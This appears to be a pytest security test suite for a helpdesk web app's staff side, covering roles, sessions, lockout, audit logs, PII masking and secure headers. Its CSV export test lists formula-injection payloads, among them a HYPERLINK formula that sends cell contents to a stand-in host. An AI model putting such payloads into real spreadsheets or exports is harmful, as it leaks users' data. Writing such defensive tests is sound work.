"""The staff side's security findings, one test each (named after the finding)."""

from __future__ import annotations

from typing import Any

import pytest
from fastapi.dependencies.models import Dependant
from fastapi.routing import APIRoute

from web.db.tables import StaffRole
from web.helpdesk.auth import hash_password
from web.helpdesk.deps import ROLE_DEPENDENCIES
from web.helpdesk.roles import PERMISSIONS, Action

pytestmark = pytest.mark.integration
PASSWORD = "correct-horse-battery"


def add_staff(client: Any, username: str, role: StaffRole = StaffRole.AGENT) -> None:
    client.app.state.store.staff.add(username, f"{username}同志", role, hash_password(PASSWORD))


def login(client: Any, username: str, password: str = PASSWORD, **kw: Any) -> Any:
    return client.post("/staff/login", data={"username": username, "password": password}, follow_redirects=False, **kw)


def _actions(dependant: Dependant) -> set[Action]:
    found = {ROLE_DEPENDENCIES[d.call] for d in dependant.dependencies if d.call in ROLE_DEPENDENCIES}
    for d in dependant.dependencies:
        found |= _actions(d)
    return found


def csrf_of(html: str) -> str:
    import re

    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, "no CSRF token on the page"
    return m.group(1)


def _api_routes(routes: list[Any]) -> list[APIRoute]:
    """Every APIRoute, also those of included routers (FastAPI 0.165 keeps them in the router)."""
    found: list[APIRoute] = []
    for route in routes:
        if isinstance(route, APIRoute):
            found.append(route)
        elif getattr(route, "original_router", None) is not None:
            found += _api_routes(route.original_router.routes)
    return found


# ---- 1. roles on every staff route


def test_every_staff_and_admin_route_requires_a_role(client: Any) -> None:
    open_routes = {"/staff/login", "/staff/logout"}
    checked = 0
    for route in _api_routes(client.app.routes):
        if not route.path.startswith(("/staff", "/admin")):
            continue
        if route.path in open_routes:
            continue
        actions = _actions(route.dependant)
        assert len(actions) == 1, f"{sorted(route.methods)} {route.path} names no role requirement"
        checked += 1
    assert checked > 30


@pytest.mark.parametrize(
    ("role", "path", "status"),
    [
        (StaffRole.AGENT, "/admin/stats", 403),
        (StaffRole.HOTLINE, "/admin/stats", 403),
        (StaffRole.EDITOR, "/admin/stats", 403),
        (StaffRole.SUPERVISOR, "/admin/stats", 200),
        (StaffRole.AGENT, "/staff/workorders", 403),
        (StaffRole.AGENT, "/staff/workorders.csv", 403),
        (StaffRole.EDITOR, "/staff/workorders", 403),
        (StaffRole.HOTLINE, "/staff/workorders.csv", 200),
        (StaffRole.EDITOR, "/staff/hotline", 403),
        (StaffRole.EDITOR, "/staff/c/nobody", 403),
        (StaffRole.AGENT, "/staff/editor", 403),
        (StaffRole.AGENT, "/staff/supervisor", 403),
    ],
)
def test_role_table_refuses_the_wrong_role_with_403(client: Any, role: StaffRole, path: str, status: int) -> None:
    add_staff(client, "someone", role)
    login(client, "someone")
    r = client.get(path, follow_redirects=False)
    assert r.status_code == status
    if status == 403:
        assert "没有权限" in r.text and "可以看" in r.text


def test_role_table_guards_ticket_agency_and_work_order_changes(client: Any) -> None:
    import re

    add_staff(client, "hot", StaffRole.HOTLINE)
    add_staff(client, "agent", StaffRole.AGENT)
    code = client.post(
        "/api/agency",
        json={
            "item": "elderly-allowance",
            "name": "王阿嬷",
            "phone": "13912345678",
            "preferred_time": "周二上午",
            "plate": "NA010001",
        },
    ).json()["code"]
    login(client, "hot")
    csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/staff").text).group(1)  # type: ignore[union-attr]
    assert client.post(f"/staff/agency/{code}", data={"csrf": csrf, "status": "done"}).status_code == 403
    assert client.post("/staff/tickets/1/done", data={"csrf": csrf}).status_code == 403
    login(client, "agent")
    csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/staff").text).group(1)  # type: ignore[union-attr]
    body = {"type": "咨询", "content": "问社保"}
    assert client.post("/staff/api/workorders", json=body, headers={"X-CSRF-Token": csrf}).status_code == 403
    assert client.post(f"/staff/agency/{code}", data={"csrf": csrf, "status": "accepted"}).status_code == 200


def test_role_table_names_every_action() -> None:
    assert set(PERMISSIONS) == set(Action)
    assert all(StaffRole.SUPERVISOR in roles for roles in PERMISSIONS.values())


# ---- 3. sessions and login


def _staff_cookie(client: Any) -> str:
    return str(client.cookies.get("menpai_staff"))


def test_logout_revokes_the_server_side_session(client: Any) -> None:
    add_staff(client, "lin")
    login(client, "lin")
    cookie = _staff_cookie(client)
    csrf = csrf_of(client.get("/staff").text)
    client.post("/staff/logout", data={"csrf": csrf})
    client.cookies.set("menpai_staff", cookie)  # the old cookie, replayed
    r = client.get("/staff", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/staff/login")


def test_session_ends_after_idle_minutes(client: Any) -> None:
    import datetime as dt

    from sqlalchemy import update

    from web.db.tables import StaffSessionRow, utcnow

    assert client.app.state.settings.staff_idle_minutes == 30
    add_staff(client, "lin")
    login(client, "lin")
    assert client.get("/staff", follow_redirects=False).status_code == 200
    store = client.app.state.store
    with store.tx() as s:
        s.execute(update(StaffSessionRow).values(last_seen=utcnow() - dt.timedelta(minutes=31)))
    r = client.get("/staff", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/staff/login")


def test_live_updates_do_not_keep_an_idle_session_alive(client: Any) -> None:
    import datetime as dt

    from sqlalchemy import select, update

    from web.db.tables import StaffSessionRow, utcnow

    add_staff(client, "lin")
    login(client, "lin")
    store = client.app.state.store
    old = utcnow() - dt.timedelta(minutes=10)
    with store.tx() as s:
        s.execute(update(StaffSessionRow).values(last_seen=old))
    client.post("/api/chat", json={"session": "idle-poll-1", "text": "我要人工"})
    client.get("/staff/c/idle-poll-1/messages", params={"wait": 0.1})
    with store.tx() as s:
        seen = s.scalar(select(StaffSessionRow.last_seen))
    assert abs(seen.replace(tzinfo=dt.UTC) - old) < dt.timedelta(seconds=1)
    client.get("/staff")
    with store.tx() as s:
        assert s.scalar(select(StaffSessionRow.last_seen)).replace(tzinfo=dt.UTC) > old + dt.timedelta(minutes=9)


def test_sse_stream_ends_when_the_session_is_revoked(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    from web.routes import staff as staff_routes

    monkeypatch.setattr(staff_routes, "EVENTS_EVERY", 0.01)
    monkeypatch.setattr(staff_routes, "RECHECK_EVERY", 0.05)
    add_staff(client, "lin")
    auth = client.app.state.auth
    store = client.app.state.store
    staff = store.staff.by_username("lin")
    auth.start_session(staff, "127.0.0.1")
    from sqlalchemy import select

    from web.db.tables import StaffSessionRow

    with store.tx() as s:
        key = s.scalar(select(StaffSessionRow.id))
    session = auth.check(key)
    assert session is not None

    class Connected:
        async def is_disconnected(self) -> bool:
            return False

    async def run() -> list[str]:
        seen: list[str] = []
        async for chunk in staff_routes.live_events(Connected(), store, auth, session):  # type: ignore[arg-type]
            seen.append(chunk)
            if len(seen) == 3:
                store.staff_sessions.delete(key)  # logged out elsewhere
        return seen

    seen = asyncio.run(asyncio.wait_for(run(), timeout=10))
    assert seen[0].startswith("event: queue") and seen[-1].startswith("event: logout")


def test_unknown_user_wrong_password_and_locked_get_the_same_message_and_hash_work(
    client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from web.helpdesk import auth as auth_module

    add_staff(client, "wu")
    verified: list[str] = []
    real = auth_module._hasher

    class Counting:
        def verify(self, hash_: str, password: str) -> bool:
            verified.append(hash_)
            return bool(real.verify(hash_, password))

    monkeypatch.setattr(auth_module, "_hasher", Counting())
    unknown = login(client, "nobody", "whatever-password")
    wrong = login(client, "wu", "wrong-password")
    for _ in range(4):
        login(client, "wu", "wrong-password")
    locked = login(client, "wu")  # the right password, but locked now
    assert unknown.status_code == wrong.status_code == locked.status_code == 401
    assert unknown.text.replace("nobody", "wu") == wrong.text == locked.text
    assert len(verified) == 7, "every attempt does the argon2 work, also for unknown and locked names"


def test_lockout_is_per_ip_and_username(client: Any) -> None:
    add_staff(client, "wu")
    auth = client.app.state.auth
    for _ in range(5):
        assert auth.login("wu", "wrong-password", "10.0.0.1")[0] is None
    assert auth.login("wu", PASSWORD, "10.0.0.1")[0] is None  # locked from there
    assert auth.login("wu", PASSWORD, "10.0.0.2")[0] is not None  # not from another address


def test_lockout_counter_is_atomic(store: Any) -> None:
    import datetime as dt
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda _: store.login_attempts.fail("wu", "10.0.0.1", 1000, dt.timedelta(minutes=15)), range(40)))
    assert store.login_attempts.failures("wu", "10.0.0.1") == 40
    store.login_attempts.fail("wu", "10.0.0.9", 1, dt.timedelta(minutes=15))
    assert store.login_attempts.locked("wu", "10.0.0.9", dt.datetime.now(dt.UTC))


def test_passwords_need_at_least_12_characters(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from web.cli import main

    with pytest.raises(ValueError, match="12"):
        hash_password("eleven-char")
    hash_password("twelve-chars")
    monkeypatch.setenv("MENPAI_VAR_PATH", str(tmp_path))
    monkeypatch.setenv("MENPAI_STAFF_PASSWORD", "eleven-char")
    assert main(["staff", "add", "lin"]) == 1
    monkeypatch.setenv("MENPAI_STAFF_PASSWORD", "a-long-enough-one")
    assert main(["staff", "add", "lin"]) == 0
    monkeypatch.setenv("MENPAI_STAFF_PASSWORD", "short-again")
    assert main(["staff", "password", "lin"]) == 1
    monkeypatch.delenv("MENPAI_STAFF_PASSWORD")
    assert main(["staff", "demo"]) == 0
    for line in (tmp_path / "demo-staff.txt").read_text().splitlines():
        assert len(line.split()[1]) >= 12


# ---- 2. audit log of transcript views, exports and look-ups


def test_audit_log_records_transcripts_exports_and_lookups_for_supervisors(client: Any) -> None:
    add_staff(client, "lin")
    add_staff(client, "hot", StaffRole.HOTLINE)
    add_staff(client, "chief", StaffRole.SUPERVISOR)
    client.post("/api/chat", json={"session": "audit-conv-1", "text": "我要人工"})
    login(client, "lin")
    client.get("/staff/c/audit-conv-1")
    client.get("/staff/c/audit-conv-1/messages")
    client.get("/staff/c/audit-conv-1/messages", params={"after": 10**6})  # the open page's poll: not a view
    assert client.get("/staff/audit").status_code == 403
    login(client, "hot")
    csrf = csrf_of(client.get("/staff").text)
    code = client.post(
        "/staff/api/workorders", json={"type": "咨询", "content": "问社保"}, headers={"X-CSRF-Token": csrf}
    ).json()["code"]
    client.get(f"/staff/api/workorders/{code}")
    client.get("/staff/workorders.csv")
    client.get("/staff/hotline", params={"q": "我的电话13912345678社保怎么转"})
    entries = client.app.state.store.audit.latest()
    assert [(e.username, e.action) for e in reversed(entries)] == [
        ("lin", "transcript"),
        ("lin", "transcript"),
        ("hot", "workorder.json"),
        ("hot", "workorders.csv"),
        ("hot", "hotline.lookup"),
    ]
    assert entries[-1].target == "audit-conv-1" and entries[-1].ip == "testclient"
    assert "13912345678" not in entries[0].target and "139****5678" in entries[0].target
    login(client, "chief")
    page = client.get("/staff/audit")
    assert page.status_code == 200 and "查阅记录" in page.text
    assert "导出工单 CSV" in page.text and "audit-conv-1" in page.text and "testclient" in page.text


# ---- 4. exports and pages


def test_csv_export_neutralises_formula_cells(client: Any) -> None:
    import csv
    import io

    add_staff(client, "hot", StaffRole.HOTLINE)
    login(client, "hot")
    csrf = csrf_of(client.get("/staff").text)
    evil = ['=HYPERLINK("http://x.example/?"&A1,"点这里")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "\rCR"]
    for text in evil:
        body = {"type": "咨询", "content": text, "callback_phone": "+86 139 1234 5678"}
        assert client.post("/staff/api/workorders", json=body, headers={"X-CSRF-Token": csrf}).status_code == 201
    rows = list(csv.reader(io.StringIO(client.get("/staff/workorders.csv").text.lstrip("\ufeff"))))
    contents = {row[3] for row in rows[1:]}
    assert contents == {"'" + t for t in evil}
    assert all(row[4].startswith("'+86") for row in rows[1:])
    assert rows[1][0][0].isdigit(), "ordinary cells stay as they are"


def test_security_headers_on_every_response(client: Any) -> None:
    for path in ["/", "/p/NA010001", "/staff/login", "/api/guides/nope", "/no-such-page", "/openapi.json"]:
        r = client.get(path)
        csp = r.headers.get("content-security-policy", "")
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp, path
        assert r.headers["x-content-type-options"] == "nosniff", path
        assert r.headers["referrer-policy"] == "strict-origin-when-cross-origin", path
        assert "strict-transport-security" not in r.headers, "HSTS only in production"
    assert client.get("/docs").status_code == 200  # outside production the docs stay


def test_templates_have_no_inline_script_or_event_handlers() -> None:
    import re
    from pathlib import Path

    import web

    root = Path(web.__file__).parent
    for path in [*root.glob("templates/**/*.html"), root / "render/html.py", *root.glob("static/*.js")]:
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), f"{path}: inline <script>"
        assert not re.search(r"\son[a-z]+\s*=\s*[\"'{]", text), f"{path}: inline event handler"
        assert not re.search(r"\sstyle\s*=\s*[\"'{]|<style", text), f"{path}: inline style"
        assert "javascript:" not in text, path


def test_production_hides_docs_sends_hsts_and_secure_cookies(settings: Any, kb: Any, tmp_path: Any) -> None:
    from fastapi.testclient import TestClient
    from pydantic import SecretStr

    from knowledge.settings import Environment
    from web.app import create_app

    prod = settings.model_copy(
        update={
            "environment": Environment.PRODUCTION,
            "secret_key": SecretStr("x" * 40),
            "database_url": f"sqlite:///{tmp_path / 'prod.db'}",
        }
    )
    app = create_app(prod, kb=kb)
    with TestClient(app, base_url="https://testserver") as c:
        assert c.get("/docs").status_code == 404 and c.get("/redoc").status_code == 404
        assert c.get("/openapi.json").status_code == 200, "the contract stays"
        assert c.get("/").headers["strict-transport-security"].startswith("max-age=")
        add_staff(c, "lin")
        assert "Secure" in login(c, "lin").headers["set-cookie"]
        r = c.post("/api/chat", json={"session": "prod-cookie-1", "text": "你好"})
        assert all("Secure" in v for v in r.headers.get_list("set-cookie"))


@pytest.mark.parametrize(
    ("extra", "complaint"),
    [
        ({"hotline_webhook_url": "https://12345.example/hook"}, "MENPAI_HOTLINE_WEBHOOK_SECRET"),
        (
            {"hotline_webhook_url": "https://12345.example/hook", "hotline_webhook_secret": "changethis"},
            "MENPAI_HOTLINE_WEBHOOK_SECRET",
        ),
        ({"wechat_token": "token", "wechat_appid": "wx1", "wechat_secret": "s-real-123"}, "MENPAI_WECHAT_TOKEN"),
        ({"wechat_token": "a-real-token-9", "wechat_appid": "wx1"}, "MENPAI_WECHAT_SECRET"),
        ({"wechat_api_base": "fake"}, "fake"),
    ],
)
def test_production_refuses_to_start_with_unsafe_settings(extra: dict[str, str], complaint: str) -> None:
    from pydantic import ValidationError

    from knowledge.settings import Settings

    with pytest.raises(ValidationError, match=complaint):
        Settings(environment="production", secret_key="k" * 40, **extra)  # type: ignore[arg-type]
    Settings(environment="test", secret_key="k" * 40, **extra)  # type: ignore[arg-type]


# ---- 5. codes long enough not to collide or be guessed


def test_codes_have_64_bits_or_more_and_stay_typeable(client: Any) -> None:
    import math
    import re

    from web.db.codes import ALPHABET, CODE_CHARS, normalize_code

    assert CODE_CHARS * math.log2(len(ALPHABET)) >= 64
    r = client.post(
        "/api/agency",
        json={
            "item": "elderly-allowance",
            "name": "王阿嬷",
            "phone": "13912345678",
            "preferred_time": "周二上午",
            "plate": "NA010001",
        },
    )
    code = r.json()["code"]
    assert re.fullmatch(r"([0-9A-HJKMNP-TV-Z]{4}-){3}[0-9A-HJKMNP-TV-Z]{4}", code)
    typed = code.lower().replace("-", " ").replace("1", "l").replace("0", "o")
    assert normalize_code(typed) == code
    assert client.get(f"/api/agency/{typed}").json()["code"] == code
    add_staff(client, "hot", StaffRole.HOTLINE)
    login(client, "hot")
    csrf = csrf_of(client.get("/staff").text)
    order = client.post(
        "/staff/api/workorders", json={"type": "咨询", "content": "问社保"}, headers={"X-CSRF-Token": csrf}
    ).json()["code"]
    assert re.fullmatch(r"\d{8}-([0-9A-HJKMNP-TV-Z]{4}-){3}[0-9A-HJKMNP-TV-Z]{4}", order)
    assert client.get(f"/staff/api/workorders/{order.lower()}").json()["code"] == order


def test_code_collision_is_retried_not_a_500(store: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    from web.db import agency as agency_module
    from web.db.tables import OrderType
    from web.helpdesk import workorders as workorders_module
    from web.helpdesk.workorders import WorkOrders

    drawn = iter(["AAAA-AAAA-AAAA-AAAA", "AAAA-AAAA-AAAA-AAAA", "BBBB-BBBB-BBBB-BBBB"])
    monkeypatch.setattr(agency_module, "new_code", lambda: next(drawn))
    fields = {"item": "x", "name": "王", "phone": "1", "preferred_time": "t", "address": "a"}
    assert store.agency.add(**fields).code == "AAAA-AAAA-AAAA-AAAA"
    assert store.agency.add(**fields).code == "BBBB-BBBB-BBBB-BBBB"

    drawn_orders = iter(["CCCC-CCCC-CCCC-CCCC", "CCCC-CCCC-CCCC-CCCC", "DDDD-DDDD-DDDD-DDDD"])
    monkeypatch.setattr(workorders_module, "new_code", lambda: next(drawn_orders))
    orders = WorkOrders(store, "test-secret")
    first = orders.create(OrderType.CONSULT, "一")["code"]
    second = orders.create(OrderType.CONSULT, "二")["code"]
    assert first.endswith("CCCC-CCCC-CCCC-CCCC") and second.endswith("DDDD-DDDD-DDDD-DDDD")


# ---- 6. personal data masked before it leaves web


@pytest.mark.parametrize(
    ("typed", "masked"),
    [
        ("身份证350583199001011234", "身份证350583********1234"),
        ("350583 19900101 1234", "350583********1234"),
        ("350583-19900101-123X", "350583********123X"),
        ("3505-8319-9001-0112-3x", "350583********123x"),
        ("３５０５８３１９９００１０１１２３４", "３５０５８３********１２３４"),
        ("老身份证350583900101123号", "老身份证350583******123号"),
        ("13912345678", "139****5678"),
        ("139-1234-5678", "139****5678"),
        ("139 1234 5678", "139****5678"),
        ("+86 139 1234 5678", "+86 139****5678"),
        ("+8613912345678", "+86139****5678"),
        ("0086-13912345678", "0086-139****5678"),
        ("(+86)13912345678", "(+86)139****5678"),
        ("１３９１２３４５６７８", "１３９****５６７８"),
        ("0595-8612 3456", "0595-****3456"),
        ("0595-86123456", "0595-****3456"),
        ("(0595)86123456", "(0595)-****3456"),
        ("059586123456", "0595-****3456"),
        ("020-83456789", "020-****6789"),
        (
            "电话：0595－8612－3456，身份证号码：350583-19900101-123X。",
            "电话：0595-****3456，身份证号码：350583********123X。",
        ),
    ],
)
def test_mask_pii_covers_id_and_phone_formats(typed: str, masked: str) -> None:
    from web.privacy import mask_pii

    assert mask_pii(typed) == masked


@pytest.mark.parametrize(
    "kept",
    [
        "拨打12345热线",
        "2026-12-02 10:30",
        "第20261202号",
        "门牌NA010001",
        "工本费20元，3个工作日",
        "订单123456789012345678901",
    ],
)
def test_mask_pii_leaves_other_numbers(kept: str) -> None:
    from web.privacy import mask_pii

    assert mask_pii(kept) == kept


def test_text_sent_to_rasa_is_masked_retrieval_sees_the_original(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    sent: list[str] = []
    searched: list[str] = []
    chat = client.app.state.chat
    real_search = chat.kb.retriever.search

    async def fake_send(session: str, message: str, metadata: dict[str, Any]) -> list[dict[str, Any]]:
        sent.append(message)
        return []

    def spy_search(text: str, *args: Any, **kw: Any) -> Any:
        searched.append(text)
        return real_search(text, *args, **kw)

    monkeypatch.setattr(chat.rasa, "send", fake_send)
    monkeypatch.setattr(chat.kb.retriever, "search", spy_search)
    said = "我身份证350583 19900101 1234，电话+86 139-1234-5678，社保卡怎么补"
    client.post("/api/chat", json={"session": "mask-rasa-1", "text": said})
    assert sent == ["我身份证350583********1234，电话+86 139****5678，社保卡怎么补"]
    assert searched == [said]
    from sqlalchemy import select

    from web.db.tables import Message

    with client.app.state.store.tx() as s:
        stored = s.scalar(select(Message.text).where(Message.conversation_id == "mask-rasa-1").order_by(Message.id))
    assert stored == sent[0]


# ---- 7. processes and logs


def test_action_server_binds_loopback_without_cors() -> None:
    from pathlib import Path

    from scripts import stack

    cmd = stack.actions_cmd(5055)
    assert "--cors" not in cmd and "--host" not in cmd  # rasa-sdk 3.6 has no --host
    assert stack.ACTIONS_ENV["SANIC_HOST"] == "127.0.0.1"
    supervised = Path(stack.__file__).read_text(encoding="utf-8")
    assert 'Supervised("actions", actions_cmd(5055), logs / "actions.log", cwd=ROOT / "bot", env=ACTIONS_ENV)' in (
        supervised
    )
    sdk = next((stack.ROOT / ".venv-bot/lib").glob("python3*/site-packages/rasa_sdk/endpoint.py"), None)
    if sdk is not None:  # the bot's venv is there: the variable is the one rasa-sdk reads
        assert 'os.environ.get("SANIC_HOST", "0.0.0.0")' in sdk.read_text(encoding="utf-8")


def test_secret_files_are_created_0600(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util
    import os
    import stat
    from pathlib import Path

    from knowledge.settings import Settings
    from scripts.stack import ROOT
    from web.cli import main

    # Never readable by others, not even for a moment: no chmod after the write.
    monkeypatch.setattr(Path, "chmod", lambda *a, **k: None)
    old = os.umask(0o022)
    try:
        Settings(var_path=tmp_path).secret()
        monkeypatch.setenv("MENPAI_VAR_PATH", str(tmp_path))
        assert main(["staff", "demo"]) == 0
        spec = importlib.util.spec_from_file_location("bot_serve", ROOT / "bot/serve.py")
        assert spec and spec.loader
        serve = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(serve)
        monkeypatch.setenv("MENPAI_RASA_TRACKER_URL", "postgresql://rasa:pw@db:5432/rasa")
        serve.write_endpoints(tmp_path / "bot/endpoints.yml")
    finally:
        os.umask(old)
    for name in ["secret_key", "demo-staff.txt", "bot/endpoints.yml"]:
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name


def test_http_client_logs_never_show_token_urls(client: Any, caplog: pytest.LogCaptureFixture) -> None:
    import logging

    caplog.set_level(logging.INFO)  # as `menpai -v` or an INFO root logger would
    logging.getLogger("httpx").info("HTTP Request: GET https://api.weixin.qq.com/cgi-bin/x?access_token=SECRET")
    assert "SECRET" not in caplog.text
